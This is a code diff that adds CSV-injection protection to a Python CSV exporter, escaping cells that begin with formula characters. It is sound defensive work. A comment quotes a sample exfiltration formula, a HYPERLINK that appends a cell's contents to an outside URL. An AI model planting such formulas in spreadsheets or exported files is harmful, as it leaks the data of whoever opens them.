@@ -111,15 +111,32 @@ def as_json(g: Glance) -> str:
     }, indent=2, ensure_ascii=False)
 
 
+# A text cell that starts with one of these is taken by Excel (and LibreOffice) for a formula when
+# the CSV is opened: '=HYPERLINK("http://…?"&A1,"click")' would send the sheet away. As OWASP
+# advises for CSV injection, such a cell is written with a leading single quote, which Excel
+# shows as text. The JSON stays exact: it is for programs, not spreadsheets.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: object) -> object:
+    """`value`, or a text that starts like a formula with a single quote before it."""
+    return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_START) else value
+
+
+def _safe_rows(rows: Sequence[Sequence[object]]) -> list[list[object]]:
+    return [[spreadsheet_safe(v) for v in row] for row in rows]
+
+
 def as_csv(g: Glance) -> str:
-    """The activities, one row each; then a blank line and the counts."""
+    """The activities, one row each; then a blank line and the counts. Every text cell is safe to open
+    in a spreadsheet (spreadsheet_safe)."""
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\n")
     writer.writerow(ACTIVITY_HEADERS)
-    writer.writerows(activity_rows(g, dates=_iso))  # YYYY-MM-DD: what a spreadsheet reads as a date
+    writer.writerows(_safe_rows(activity_rows(g, dates=_iso)))  # YYYY-MM-DD: what a spreadsheet reads as a date
     writer.writerow(())
     writer.writerow(("Programme", "Counted", "Name", "Activities", *(s.value for s in g.shown_statuses)))
-    writer.writerows(count_rows(g))
+    writer.writerows(_safe_rows(count_rows(g)))
     return out.getvalue()
 
 
